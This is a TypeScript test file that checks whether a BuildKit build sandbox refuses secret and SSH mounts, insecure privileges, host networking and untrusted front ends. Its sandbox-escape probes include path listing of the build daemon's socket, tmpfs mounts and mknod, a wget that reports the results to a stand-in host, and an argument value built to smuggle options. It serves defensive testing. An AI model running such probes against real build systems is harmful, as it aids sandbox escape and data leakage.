/** What a build file may request of BuildKit, and what it may be built on: refused by name, or of no use. */
import { afterAll, beforeAll, expect, test, vi } from "vitest";
import { type BuildFixture, type Built, startBuildFixture } from "./testing/build-fixture.ts";
import { pushBusybox } from "./testing/push-busybox.ts";

vi.setConfig({ testTimeout: 60_000 });

/** What only the sandbox around a step has. */
const SANDBOX_PLACES = ["/var/lib/buildkit", "/job", "/opt/buildkit", "/run/buildkitd.sock"];

let builder: BuildFixture;

beforeAll(async () => {
  builder = await startBuildFixture();
});
afterAll(() => builder.close());

async function build(file: string, more: Parameters<BuildFixture["build"]>[1] = {}): Promise<Built> {
  return await builder.build([["Dockerfile", file]], more);
}

test.each([
  [
    "a secret",
    "--mount=type=secret,id=key,required=true cat /run/secrets/key",
    "build_failed",
    /secret key: not found/,
  ],
  ["an SSH agent", "--mount=type=ssh,required=true true", "build_failed", /no SSH key/],
  [
    "every privilege",
    "--security=insecure mount -t tmpfs none /tmp",
    "build_failed",
    /security.insecure is not allowed/,
  ],
  ["the network of the machine", "--network=host true", "build_failed", /network.host is not allowed/],
])("refuses a step %s", async (_, step, reason, words) => {
  const { failure } = await build(`FROM busybox:1\nRUN ${step}\n`);
  expect(failure).toMatchObject({ reason, message: expect.stringMatching(words) });
});

test("gives a step that requests them neither secrets nor an agent", async () => {
  const requested = "--mount=type=secret,id=key --mount=type=ssh";
  const { log } = await build(`FROM busybox:1\nRUN ${requested} ls /run/secrets; ls "$SSH_AUTH_SOCK"; false\n`);
  expect(log).toMatch(/^#\d+ [\d.]+ ls: \/run\/secrets: No such file or directory$/m);
  expect(log).toMatch(/^#\d+ [\d.]+ ls: .*ssh_agent.*: No such file or directory$/m);
});

test("names a foreign front end that is not to be had, by the build file or by an argument", async () => {
  const bySyntax = await build("# syntax=evil/front-end:1\nFROM busybox:1\n");
  expect(bySyntax.failure).toMatchObject({ reason: "base_image_unavailable" });
  const byArgument = await build("FROM busybox:1\n", { buildArgs: { BUILDKIT_SYNTAX: "evil/front-end:1" } });
  expect(byArgument.failure).toMatchObject({ reason: "base_image_unavailable" });
});

test("runs a foreign front end within the limits of a step", async () => {
  // What it writes is lost, so it says what it could do by the host that it requests.
  const tries = [...SANDBOX_PLACES.map((path) => `ls ${path}`), "mount -t tmpfs none /tmp", "mknod /sda b 8 0"];
  const counted = tries.map((attempt) => `${attempt} && n=$((n+1))`).join("; ");
  const script = `exec >/dev/null; n=0; ls /bin && ${counted}; http_proxy=http://127.0.0.1:3128 wget http://could-$n.test/`;
  const entrypoint = ["/bin/sh", "-c", script];
  await pushBusybox(builder.registry, null, { repository: "library/front-end", entrypoint });
  const { failure, log } = await build("# syntax=front-end:1\nFROM busybox:1\n");
  expect(failure).toMatchObject({ reason: "build_failed" });
  expect(log).toContain("refused a connection to could-0.test:80");
});

test("takes an argument's value as it is, whatever separates options elsewhere", async () => {
  const value = 'a,target=none,"b"=c';
  const { log } = await build('FROM busybox:1\nARG VALUE\nRUN echo "<$VALUE>"; false\n', {
    buildArgs: { VALUE: value },
  });
  expect(log).toContain(`<${value}>`);
});

test("gives a step no device of a base image", async () => {
  const device = { type: "block-device", devmajor: 254, devminor: 0 } as const;
  await pushBusybox(builder.registry, null, { repository: "library/devices", more: [{ name: "disk", ...device }] });
  const { log } = await build("FROM devices:1\nRUN ls /disk\n");
  expect(log).toContain("ls: /disk: No such file or directory");
});
